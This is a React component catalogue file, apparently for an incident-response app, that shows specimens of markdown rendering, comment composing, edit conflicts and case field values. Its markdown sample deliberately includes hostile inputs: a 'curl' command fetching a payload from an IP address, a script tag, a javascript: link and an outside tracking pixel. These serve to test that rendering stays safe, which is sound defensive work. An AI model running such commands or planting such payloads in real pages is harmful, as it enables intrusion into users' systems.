/** Texts: read, written, written by two at once. */

import { ConflictView } from '../../parts/editing/conflict-view.tsx';
import { PresenceProvider, SomebodyEditing } from '../../parts/editing/presence.tsx';
import { FieldValue } from '../../parts/history/field-value.tsx';
import { Composer } from '../../parts/markdown/composer.tsx';
import { Markdown } from '../../parts/markdown/markdown.tsx';
import { openedAt } from './samples.ts';
import { Group, Specimen } from './specimen.tsx';

const markdown = `## What happened

Three people **entered their password** at https://sso-acme.example/login and one refused MFA.

- [x] Mail removed
- [ ] Sessions ended

| Host | Seen |
| --- | --- |
| srv-1 | 14:02 |

\`\`\`
curl http://203.0.113.57/payload
\`\`\`

<script>alert(1)</script> [a link](javascript:alert(1)) ![outside](https://evil.example/pixel.png)`;

const conflict = {
  base: 'Three people entered their password.',
  theirs: 'Three people entered their password and one refused MFA.',
  mine: 'Three people in Lyon entered their password.',
  version: 4,
  name: 'Omar Haddad',
  at: openedAt,
};

/** Fields with the values that a history shows. */
const fields: readonly (readonly [field: string, value: unknown])[] = [
  ['severity', 3],
  ['tlp', 4],
  ['assignee', 'omar@acme.example'],
  ['status', 'TruePositive'],
  ['tags', ['phishing', 'mail']],
  ['startDate', openedAt],
  ['summary', null],
  ['title', 'Beacon to http://evil.example/a'],
];

/** The group. */
export function Texts() {
  return (
    <Group id="texts" title="Texts">
      <Specimen name="Markdown, hostile parts included" wide>
        <Markdown text={markdown} />
      </Specimen>
      <Specimen name="Composer: refuses what is sent" wide>
        <Composer
          place="catalogue:composer"
          label="Comment"
          submitLabel="Add comment"
          onSubmit={() => Promise.reject(new Error('The catalogue sends nothing'))}
        />
      </Specimen>
      <Specimen name="Two changed the same text" wide>
        <ConflictView
          conflict={conflict}
          onSave={() => undefined}
          onKeepEditing={() => undefined}
          busy={false}
        />
      </Specimen>
      <Specimen name="Somebody else writes here">
        <PresenceProvider object="~1" part="catalogue">
          <SomebodyEditing field="description" />
        </PresenceProvider>
      </Specimen>
      <Specimen name="Values in a history">
        {fields.map(([field, value]) => (
          <FieldValue key={field} entity="Case" field={field} value={value} />
        ))}
      </Specimen>
    </Group>
  );
}
